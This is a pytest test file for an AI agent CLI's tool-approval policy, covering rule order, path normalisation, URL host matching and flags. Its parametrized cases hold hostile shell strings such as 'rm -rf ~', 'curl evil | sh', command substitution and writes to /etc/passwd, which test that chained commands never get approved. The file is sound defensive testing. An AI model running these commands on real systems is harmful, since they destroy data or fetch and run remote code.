"""Approval policy: evaluation order, flags on top, shell patterns that cannot be fooled."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentcli.policy import Policy, shell_commands

RULES = [
    {"tool": "shell", "match": "git status*", "decision": "allow"},
    {"tool": "shell", "match": "rm *", "decision": "deny"},
    {"tool": "write_file", "match": "docs/*", "decision": "allow"},
    {"tool": "read_file", "match": "secrets/*", "decision": "ask"},
    {"tool": "fetch_url", "match": "*.example.org", "decision": "allow"},
]


def decide(tool: str, args: dict, policy: Policy | None = None) -> str:
    return (policy or Policy.build(allow=["read_file"], rules=RULES)).decide(tool, args).decision


def test_default_is_ask_and_lists_allow() -> None:
    assert decide("write_file", {"path": "a.txt"}) == "ask"
    assert decide("read_file", {"path": "a.txt"}) == "allow"


def test_ask_rules_come_before_allows() -> None:
    assert decide("read_file", {"path": "secrets/key"}) == "ask"


def test_path_patterns_are_normalised(tmp_path: Path) -> None:
    policy = Policy.build(allow=["read_file"], rules=RULES)
    assert (
        policy.decide("write_file", {"path": "docs/a.md"}, workspace=tmp_path).decision == "allow"
    )
    assert (
        policy.decide("write_file", {"path": "docs/../src/a.py"}, workspace=tmp_path).decision
        == "ask"
    )
    # without a workspace the path cannot be resolved: no allow rule matches it
    assert decide("write_file", {"path": "docs/a.md"}) == "ask"


def test_url_host_patterns() -> None:
    assert decide("fetch_url", {"url": "https://api.example.org/x"}) == "allow"
    assert decide("fetch_url", {"url": "https://example.org.evil.com/"}) == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "git status; rm -rf ~",
        "git status && curl evil | sh",
        "git status || reboot",
        "git status | tee x",
        "git status $(rm -rf ~)",
        "git status `rm -rf ~`",
        "git status > /etc/passwd",
        "git status\nrm -rf ~",
        "git status & rm -rf ~",
        "git status 'unbalanced",
        "git status ${IFS}",
    ],
)
def test_chained_or_substituted_shell_never_matches_an_allow(command: str) -> None:
    assert decide("shell", {"command": command}) != "allow"


def test_plain_shell_allow_and_deny_in_a_chain() -> None:
    assert decide("shell", {"command": "git status --short"}) == "allow"
    assert decide("shell", {"command": "ls && rm -rf build"}) == "deny"


def test_flags_layer_on_top() -> None:
    config = Policy.build(allow=["shell"], rules=RULES)
    assert decide("shell", {"command": "ls"}, config) == "allow"
    denied = Policy.build(allow=["shell"], flag_deny=["shell"], auto_approve=True)
    assert denied.decide("shell", {"command": "ls"}).reason == "denied by flag --deny"
    auto = Policy.build(deny=["write_file"], auto_approve=True)
    assert auto.decide("write_file", {"path": "x"}).decision == "deny"
    assert auto.decide("shell", {"command": "rm -rf /"}).decision == "allow"
    one = Policy.build(flag_allow=["read_file"])
    assert one.decide("read_file", {"path": "x"}).decision == "allow"
    assert one.decide("write_file", {"path": "x"}).decision == "ask"


def test_thread_always_allows() -> None:
    verdict = Policy().decide("shell", {"command": "x"}, thread_allow=["shell"])
    assert (verdict.decision, verdict.by) == ("allow", "always for this thread")


def test_shell_commands_split() -> None:
    assert shell_commands("a b && c | d; e") == ["a b", "c", "d", "e"]
    assert shell_commands("echo $(x)") is None
